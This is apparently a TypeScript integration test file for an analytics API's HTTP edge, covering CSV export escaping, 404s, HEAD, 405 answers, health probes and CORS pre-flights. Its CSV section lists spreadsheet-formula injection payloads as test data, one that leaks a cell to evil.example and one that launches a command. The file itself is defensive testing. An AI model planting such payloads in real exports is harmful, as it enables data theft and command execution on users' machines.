/**
 * The HTTP edge under odd input: CSV exports that cannot carry spreadsheet formulas, pre-flights and health
 * probes that ignore odd query strings, HEAD wherever GET is, empty path segments, and 405 answers.
 */
import { expect } from 'chai';
import { request } from 'node:http';
import { testDb } from '../helpers/database.js';
import { newAccount, type Account } from '../helpers/fixtures.js';
import { HttpClient } from '../helpers/http.js';
import { startTestServer, type TestServer } from '../helpers/server.js';
import { specOperations } from '../helpers/spec-sync.js';

/** A request whose path is sent exactly as written. */
function rawRequest(baseUrl: string, method: string, path: string, key: string): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const { hostname, port } = new URL(baseUrl);
    const req = request({ hostname, port, method, path, headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' } }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (text += chunk));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
    });
    req.on('error', reject);
    req.end(method === 'GET' ? undefined : '{}');
  });
}

describe('the HTTP edge', function () {
  this.timeout(60_000);
  let server: TestServer;
  let account: Account;

  before(async () => {
    server = await startTestServer();
    account = await newAccount(testDb());
  });
  after(() => server.close());

  describe('format=csv neutralises spreadsheet formulas (OWASP CSV Injection)', () => {
    /** A property's stored value and the cell the export writes for it. */
    const cases: [property: string, stored: unknown, cell: string][] = [
      ['a_equals', '=HYPERLINK("https://evil.example/?"&A1)', `"'=HYPERLINK(""https://evil.example/?""&A1)"`],
      ['b_plus', '+1+cmd', `"'+1+cmd"`],
      ['c_minus', "-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
      ['d_at', '@SUM(1+1)*cmd', `"'@SUM(1+1)*cmd"`],
      ['e_tab', '\t=1+1', `"'\t=1+1"`],
      ['f_carriage_return', '\r=1+1', `"'\r=1+1"`],
      ['g_line_feed', '\n=1+1', `"'\n=1+1"`],
      // A negative number stays a number; the same digits stored as text are text, and neutralised.
      ['h_negative_number', -12.5, '-12.5'],
      ['i_negative_text', '-12.5', `"'-12.5"`],
      ['j_formula_inside', 'a=b+c', 'a=b+c'],
    ];

    it('prefixes text cells that start with = + - @ tab CR or LF with a quote and quotes them; numbers stay', async () => {
      const properties = Object.fromEntries(cases.map(([property, stored]) => [property, stored]));
      const timestamp = new Date(Date.now() - 60_000).toISOString(); // recent, for the values endpoint
      const captured = await server.http.post('/i/v0/e/', {
        api_key: account.environment.api_token,
        uuid: '0190f1c4-0000-7000-8000-00000000c5f1',
        event: '@export',
        distinct_id: '=user',
        timestamp,
        properties,
      });
      expect(captured.status).to.equal(200);

      const events = `/api/projects/${account.environment.id}/events/`;
      const csv = async (query: string) => {
        const res = await server.http.get(`${events}${query}`, { key: account.key });
        expect([res.status, res.headers.get('content-type')], query).to.deep.equal([200, 'text/csv; charset=utf-8']);
        return res.text;
      };
      const columns = cases.map(([property]) => `properties.${property}`).join(',');
      const cells = cases.map(([, , cell]) => cell).join(',');
      expect(await csv('?format=csv')).to.equal(
        `id,distinct_id,${columns},event,timestamp,person.distinct_ids.0,person.is_identified,elements_chain\r\n` +
          `0190f1c4-0000-7000-8000-00000000c5f1,"'=user",${cells},"'@export",${timestamp},"'=user",false,\r\n`,
      );
      expect(await csv(`values/?key=c_minus&format=csv`)).to.equal(`name\r\n"'-2+3+cmd|' /C calc'!A0"\r\n`);
      // Column names are neutralised too: a select expression is the caller's text.
      const select = encodeURIComponent(JSON.stringify(['-1', 'properties.d_at']));
      expect(await csv(`?format=csv&select=${select}`)).to.equal(`"'-1",properties.d_at\r\n-1,"'@SUM(1+1)*cmd"\r\n`);
    });
  });

  describe('an empty path segment names nothing: 404', () => {
    const NOT_FOUND = { type: 'invalid_request', code: 'not_found', detail: 'Not found.', attr: null };
    const cases = (projectId: number): [method: string, path: string][] => [
      ['GET', '/api/organizations//'],
      ['GET', '/api/organizations//?limit=1'],
      ['GET', '/api/projects//'],
      ['GET', `/api/projects/${projectId}//events/`],
      ['GET', `/api/projects/${projectId}/events//`],
      ['GET', `/api/environments/${projectId}/session_recording_playlists//`],
      ['PATCH', '/api/organizations//'],
      ['POST', '/i/v0/e//'],
      ['GET', '/e//?data=e30'],
    ];

    it('answers 404 in the error format, for API and capture paths alike', async () => {
      for (const [method, path] of cases(account.environment.id)) {
        const res = await server.http.request(method, path, { key: account.key, ...(method === 'GET' ? {} : { body: {} }) });
        expect([res.status, res.body], `${method} ${path}`).to.deep.equal([404, NOT_FOUND]);
      }
      // A leading empty segment too; fetch would read `//host/...` as another host, so these go through node:http.
      for (const [method, path] of [['GET', '//api/organizations/'], ['GET', '//_health'], ['POST', '//batch/']] as const) {
        const { status, text } = await rawRequest(server.directUrl, method, path, account.key);
        expect([status, JSON.parse(text)], `${method} ${path}`).to.deep.equal([404, NOT_FOUND]);
      }
    });
  });

  describe('HEAD is served wherever GET is', () => {
    /** A concrete path for a GET of the spec, naming the account's organization, project and project key. */
    const pathFor = (path: string) =>
      path.replace(/\{([^}]+)\}/g, (_match, name: string) => {
        if (name === 'project_id') return String(account.environment.id);
        if (name === 'organization_id' || (name === 'id' && path.startsWith('/api/organizations/{id}'))) return account.organization.id;
        if (name === 'token') return account.environment.api_token;
        if (name === 'short_id') return 'aB3dE5gH';
        return '0190f1c4-8e77-7b0a-8c1d-5e2f3a4b6c7d';
      });

    for (const operation of specOperations().filter((candidate) => candidate.method === 'get')) {
      it(`HEAD ${operation.path} (${operation.operationId}) answers GET's status and headers without a body`, async () => {
        const path = pathFor(operation.path);
        const options = { key: account.key, headers: { origin: 'https://shop.example.com' } };
        // Both from the server itself: Prism (test:proxy) does not forward HEAD, and mocks a GET answered 501.
        const direct = new HttpClient(server.directUrl);
        const head = await direct.request('HEAD', path, options);
        const get = await direct.get(path, options);
        expect(head.text).to.equal('');
        const headers = (res: typeof get) => [res.status, res.headers.get('content-type'), res.headers.get('access-control-allow-origin')];
        expect(headers(head)).to.deep.equal(headers(get));
        // The metrics count the HEAD itself, so their GET is a little longer.
        if (operation.operationId !== 'metrics_retrieve') {
          expect(head.headers.get('content-length')).to.equal(String(Buffer.byteLength(get.text)));
        }
      });
    }
  });

  describe('405 answers carry Allow, and a body as the spec documents it', () => {
    /** Method, path, the Allow header, and whether the body is the error format (else there is none). */
    const cases = (): [method: string, path: string, allow: string, errorBody: boolean][] => {
      const organization = `/api/organizations/${account.organization.id}/`;
      return [
        ['PUT', organization, 'GET, HEAD, PATCH, DELETE', true],
        ['DELETE', '/api/organizations/', 'GET, HEAD, POST', true],
        ['OPTIONS', '/api/organizations/?x=1', 'GET, HEAD, POST', true],
        ['GET', `${organization}environments_rollback/`, 'POST', true],
        ['HEAD', `${organization}environments_rollback/`, 'POST', false],
        ['POST', '/_health', 'GET, HEAD', true],
        // The documented refusal: the same body, and DELETE is not among what the path allows.
        ['DELETE', `/api/environments/${account.environment.id}/session_recording_playlists/aB3dE5gH/`, 'GET, HEAD, PATCH', true],
        ['PUT', '/batch/', 'GET, HEAD, POST, OPTIONS', true],
        ['DELETE', '/i/v0/e', 'GET, HEAD, POST, OPTIONS', true],
        ['GET', '/flags/', 'POST, OPTIONS', true],
        ['HEAD', '/flags/', 'POST, OPTIONS', false],
        ['POST', `/array/${account.environment.api_token}/config.js`, 'GET, HEAD', true],
        ['PATCH', '/_metrics', 'GET, HEAD', true],
      ];
    };

    it('lists what the path allows, in one order, HEAD wherever GET is', async () => {
      for (const [method, path, allow, errorBody] of cases()) {
        const res = await server.http.request(method, path, { key: account.key, ...(method === 'PUT' ? { body: {} } : {}) });
        const body = errorBody ? { type: 'invalid_request', code: 'method_not_allowed', detail: `Method "${method}" not allowed.`, attr: null } : '';
        expect([res.status, res.headers.get('allow'), res.body], `${method} ${path}`).to.deep.equal([405, allow, body]);
      }
    });
  });

  describe('HEAD of a capture GET', () => {
    it('stores the events of `data` as the GET does, and answers 200 without a body', async () => {
      const pixel = await newAccount(testDb());
      const data = Buffer.from(JSON.stringify({ api_key: pixel.environment.api_token, event: 'pixel', distinct_id: 'u' })).toString('base64');
      const res = await server.http.request('HEAD', `/e/?data=${encodeURIComponent(data)}`);
      expect([res.status, res.text, res.headers.get('content-length')]).to.deep.equal([200, '', String('{"status":1}'.length)]);
      const stored = await testDb()('events').where({ team_id: pixel.environment.id }).select('event', 'distinct_id');
      expect(stored).to.deep.equal([{ event: 'pixel', distinct_id: 'u' }]);
    });
  });

  describe('health probes ignore query parameters', () => {
    for (const path of ['/_health', '/_readiness']) {
      it(`GET ${path} with parameters of its own → 200`, async () => {
        for (const query of ['?x=1', '?probe=kubelet&x=1&x=2', '?%zz', '?probe_query=1']) {
          const res = await server.http.get(`${path}${query}`);
          expect([res.status, res.body], query).to.deep.equal([200, path === '/_health' ? { status: 'ok', host: server.config.hostId } : { status: 'ok' }]);
        }
      });
    }
  });

  describe('CORS pre-flights answer whatever their query string', () => {
    // Each would fail the checks of the request it precedes (a type, a minimum, a malformed escape).
    const oddQueries = ['?v=abc', '?_=yesterday', '?retry_count=-1', '?compression=bogus&ver=&ver=', '?ip=%zz&beacon', '?data=%E0%A4%A'];
    const preflightPaths = specOperations(['options']).map((operation) => operation.path);

    for (const path of preflightPaths) {
      for (const spelling of [path, path.slice(0, -1)]) {
        it(`OPTIONS ${spelling} with odd query strings → 200 with CORS headers`, async () => {
          for (const query of oddQueries) {
            const res = await server.http.request('OPTIONS', `${spelling}${query}`, {
              headers: { origin: 'https://shop.example.com', 'access-control-request-method': 'POST' },
            });
            const cors = ['access-control-allow-origin', 'access-control-allow-methods', 'access-control-allow-credentials'];
            expect([res.status, ...cors.map((name) => res.headers.get(name))], query).to.deep.equal([
              200,
              'https://shop.example.com',
              'GET, POST, OPTIONS',
              'true',
            ]);
          }
        });
      }
    }
  });
});
